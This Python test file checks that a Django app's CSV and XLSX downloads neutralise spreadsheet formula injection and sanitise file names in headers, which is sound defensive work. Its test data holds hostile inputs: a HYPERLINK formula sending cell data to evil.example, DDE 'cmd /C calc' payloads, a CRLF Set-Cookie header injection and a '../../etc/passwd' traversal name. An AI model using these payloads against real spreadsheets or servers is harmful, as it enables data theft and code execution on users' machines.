"""Downloads that cannot attack their reader: no cell, header or note starts a formula, and file
names are quoted and encoded (RFC 6266, RFC 5987) whatever they are made from."""

from __future__ import annotations

import csv
import io
import re
import unicodedata
from collections.abc import Sequence
from typing import Any
from urllib.parse import urlencode

import pytest
from django.urls import reverse
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from followup.evidence.models import Case, Code, Coding, Source
from followup.lib.tables import attachment, file_name, safe_cell, table_download

DANGER = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\x00=1+1",
    "\x01\x02=1",
    "\uff1d1+1",
    'a","=1+1',
    "a;=1+1",
    "a,=1+1",
    "line\nbreak",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u200e+1",
    " \u2060\u200b @SUM(1)",
    "\ufeff\uff1d1+1",
]


def _starts_a_formula(text: str) -> bool:
    invisible = "".join(c for c in text if c.isspace() or unicodedata.category(c) in ("Cc", "Cf"))
    seen = text.lstrip(invisible) if invisible else text
    return text.startswith(DANGER) or seen.startswith(DANGER)


def _read_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"))))


def _read_xlsx(data: bytes) -> list[list[Any]]:
    book = load_workbook(io.BytesIO(data))
    found: list[list[Any]] = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.value
            found.append([cell.value for cell in row])
    return found


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return text.strip() == text and text.lower() not in ("nan", "inf", "-inf", "+inf")


def _settled(values: Sequence[Sequence[Any]]) -> None:
    """No text cell starts a formula (a number written as text, like -2.5, is a number)."""
    for row in values:
        for value in row:
            if isinstance(value, str) and not _is_number(value):
                assert not _starts_a_formula(value), value


# Hypothesis text, weighted towards the characters that start formulas and break headers.
hostile_text = st.one_of(
    st.sampled_from(HOSTILE),
    st.text(
        alphabet=st.sampled_from([*DANGER, "a", " ", '"', "'", ",", ";", "\x00", "\x1f", "é", "/"]),
        max_size=12,
    ),
)


@settings(max_examples=60, deadline=None, derandomize=True)
@given(st.lists(hostile_text, min_size=1, max_size=4), hostile_text, hostile_text)
def test_no_cell_header_or_note_of_a_download_starts_a_formula(cells, name, note):
    for fmt in ("csv", "xlsx"):
        response = table_download(
            name, fmt, [name, *cells], [[*cells, 3, -2.5, None]], sheet=name, notes=[note]
        )
        if fmt == "csv":
            rows = _read_csv(response.getvalue())
            _settled(rows)
            assert rows[1][-3:] == ["3", "-2.5", ""]  # numbers stay numbers
            assert all(line.startswith('"') for line in response.content.decode().splitlines()[:1])
        else:
            _settled(_read_xlsx(response.content))
        assert "\n" not in response["Content-Disposition"]


def test_a_dangerous_cell_keeps_its_words_behind_an_apostrophe():
    assert safe_cell("=1+1") == "'=1+1"
    assert safe_cell("  @x") == "'  @x"
    assert safe_cell("\x00=1") == "'=1"
    assert safe_cell("\u200b=1+1") == "'\u200b=1+1"  # zero-width space
    assert safe_cell("\ufeff+1") == "'\ufeff+1"  # byte order mark
    assert safe_cell("\u200e \u2061-1") == "'\u200e \u2061-1"  # format characters, a blank
    assert safe_cell("\ufeff\uff20x") == "'\ufeff\uff20x"  # a full-width @
    assert safe_cell("\u200bSafe") == "\u200bSafe"
    assert safe_cell("Safe") == "Safe"
    assert safe_cell(-3) == -3
    assert safe_cell(None) == ""


@pytest.mark.parametrize(
    ("name", "header"),
    [
        ("home-codes.csv", 'attachment; filename="home-codes.csv"'),
        ('a"b\\c\r\nSet-Cookie: x=1.csv', 'attachment; filename="a-b-c-Set-Cookie-x-1.csv"'),
        (
            "Buidheann-aoise-òg.xlsx",
            "attachment; filename=\"Buidheann-aoise-og.xlsx\"; filename*=utf-8''Buidheann-aoise-%C3%B2g.xlsx",
        ),
        ("../../etc/passwd", 'attachment; filename="etc-passwd"'),
        ("\n\n", 'attachment; filename="download"'),
    ],
)
def test_file_names_are_quoted_and_encoded(name, header):
    assert attachment(name) == header


@settings(max_examples=200, deadline=None, derandomize=True)
@given(st.text(max_size=40))
def test_any_name_makes_a_well_formed_header(name):
    header = attachment(name + ".csv")
    assert re.fullmatch(
        r'attachment; filename="[A-Za-z0-9_.-]+"(; filename\*=utf-8\'\'\S+)?', header
    )
    assert "/" not in file_name(name) and "\\" not in file_name(name)


@pytest.fixture
def hostile(world):
    """A code and a case attribute named as formulas, and an attribute name with a line break."""
    partnership = world.home.partnership
    code = Code.objects.create(partnership=partnership, name='=HYPERLINK("http://x","y")')
    attributes = {'@SUM(1+1)*cmd|" /C calc"!A0': "=1+1", "Group\r\nSet-Cookie: a=b": "+x"}
    for n in range(6):
        case = Case.objects.create(partnership=partnership, name=f"H{n}", attributes=attributes)
        source = Source.objects.create(
            partnership=partnership, title=f"-H{n}", text="=cmd|' /C calc'!A0 here", case=case
        )
        Coding.objects.create(source=source, code=code, start=0, end=10)
    return code


@pytest.mark.parametrize("who", ["lead", "viewer"])
def test_downloads_of_hostile_names_are_neither_formulas_nor_server_errors(world, hostile, who):
    client = world.client_for(who)
    urls = []
    for fmt in ("csv", "xlsx"):
        for attribute in ['@SUM(1+1)*cmd|" /C calc"!A0', "Group\r\nSet-Cookie: a=b"]:
            url = (
                reverse("evidence:matrix_download", args=["home", fmt])
                + "?"
                + urlencode({"attribute": attribute})
            )
            if who == "viewer":  # codes by respondent group only, as a report has them
                assert client.get(url).status_code == 404
            else:
                urls.append(url)
        if who == "viewer":
            urls.append(reverse("evidence:matrix_download", args=["home", fmt]))
        if who == "lead":
            urls.append(reverse("evidence:cooccurrence_download", args=["home", fmt]))
            urls.append(reverse("evidence:excerpts_download", args=["home", fmt]))
    for url in urls:
        response = client.get(url)
        assert response.status_code == 200, url
        assert (
            "\n" not in response["Content-Disposition"]
            and "\r" not in response["Content-Disposition"]
        )
        if url.split("?")[0].endswith(".csv"):
            rows = _read_csv(response.getvalue())
            _settled(rows)
        else:
            rows = _read_xlsx(response.getvalue())
            _settled(rows)
        assert any('HYPERLINK("http://x","y")' in str(cell) for row in rows for cell in row), url
